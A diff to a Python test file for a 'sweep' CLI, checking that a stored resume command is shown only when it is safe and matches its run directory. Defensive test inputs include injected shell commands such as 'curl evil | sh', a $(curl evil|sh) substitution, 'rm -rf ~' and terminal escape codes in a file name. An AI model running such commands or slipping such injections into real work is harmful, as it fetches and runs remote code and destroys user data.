@@ -6,6 +6,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -356,24 +357,41 @@ def test_status_counts_done_partial_failed_pending(tmp_path):
     assert "members: 16 planned, 4 trained" in out
     assert "not aggregated yet" in out and "sweep aggregate" not in out
     assert f"next: resume it with `sweep run SPEC --storage {tmp_path} --resume`" in out
-    kept = root / "resume_command.txt"  # what a `sweep run` keeps: its command, said as it was run
-    for line in (
-        "sweep run x.toml --resume; curl evil | sh",
-        "sweep run x.toml --resume\nrm -rf ~",
+    kept, generic = root / "resume.json", f"`sweep run SPEC --storage {tmp_path} --resume`"
+    good = (
+        shlex.join(["sweep", "run", "/my specs/x.toml", "--storage", str(tmp_path), "--set", "seeds=8"]) + " --resume"
+    )
+    for command in (
+        "sweep run x.toml --resume; curl evil | sh",  # not the command's own words: a shell runs more
+        f"sweep run x.toml --storage {tmp_path}; curl evil|sh; sweep run y --resume",
+        f"sweep run $(curl evil|sh) --storage {tmp_path} --resume",
+        shlex.join(["sweep", "run", "x.toml\x1b[2K\x1b[1A", "--storage", str(tmp_path), "--resume"]),  # a terminal's
+        shlex.join(["sweep", "run", "x.toml\nnext: all done", "--storage", str(tmp_path), "--resume"]),
+        good.replace(str(tmp_path), "/elsewhere"),  # another directory (moved, or copied from elsewhere)
+        good.removesuffix(" --resume"),
         "rm -rf ~ --resume",
     ):
-        kept.write_text(line)  # not a command of its own words: a shell would run something else
-        assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
-    kept.write_bytes(b"sweep run \xff.toml --resume")  # not UTF-8
-    assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
+        kept.write_text(json.dumps({"command": command, "folder": "/work"}))
+        assert generic in invoke("status", root).output, command
+    for text in (
+        b"\xff",
+        b"[]",
+        b'{"command": 1, "folder": "/"}',
+        json.dumps({"command": good, "folder": "x"}).encode(),
+    ):
+        kept.write_bytes(text)  # not UTF-8, not an object, not a command, a relative folder
+        assert generic in invoke("status", root).output, text
+    kept.write_text(json.dumps({"command": good, "folder": "/work"}) + " " * 2**16)  # too large for a command
+    assert generic in invoke("status", root).output
     kept.unlink()
     os.mkfifo(kept)  # a reader of a FIFO would wait for a writer
-    assert f"`sweep run SPEC --storage {tmp_path} --resume`" in invoke("status", root).output
+    assert generic in invoke("status", root).output
     kept.unlink()
-    kept.write_text("sweep run '/my specs/x.toml' --storage /s --set seeds=8 --resume\n")
-    assert "resume it with `sweep run '/my specs/x.toml' --storage /s --set seeds=8 --resume` (as it was last run)" in (
-        invoke("status", root).output
-    )
+    kept.write_text(json.dumps({"command": good, "folder": "/work"}))
+    assert f"resume it with `{good}` (its last run, from /work);" in invoke("status", root).output
+    os.rename(root, tmp_path / "moved")  # the command names the directory it was: not this one
+    assert "--resume` (SPEC" in invoke("status", tmp_path / "moved").output
+    os.rename(tmp_path / "moved", root)
     lines = {line.split()[0]: line.split()[1] for line in out.splitlines() if line.startswith(plan.config_ids)}
     assert lines == {t_running.trial_key: "partial", t_failed.trial_key: "failed", t_pending.trial_key: "pending"}
     assert "RuntimeError: boom" in next(x for x in out.splitlines() if x.startswith(t_failed.trial_key))
@@ -1093,6 +1111,11 @@ def test_run_progress_option_reaches_sweep_run(tmp_path, monkeypatch, choice, mo
     assert options.resume_command.startswith(f"sweep run {tmp_path / 'spec.toml'} --storage {os.path.abspath('runs')} ")
     assert invoke("run", tmp_path / "spec.toml", "--executor", "local").exit_code == 0
     assert seen["options"].executor == "local" and "--executor local" in seen["options"].resume_command
+    assert (
+        invoke("run", tmp_path / "spec.toml", "--logger", "tensorboard", "--log-per", "config", "--verbose").exit_code
+        == 0
+    )
+    assert seen["options"].resume_command.endswith(" --logger tensorboard --log-per config --verbose --resume")
     assert invoke("run", tmp_path / "spec.toml", "--progress", "loud").exit_code == 2  # click lists the choices
 
 
